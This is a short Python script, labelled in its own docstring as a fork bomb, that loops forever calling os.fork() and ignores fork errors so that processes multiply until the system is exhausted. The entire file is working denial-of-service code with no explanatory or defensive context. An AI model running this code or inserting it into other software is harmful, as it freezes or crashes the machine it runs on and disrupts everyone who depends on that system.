"""Fork bomb: every process forks forever and spins."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
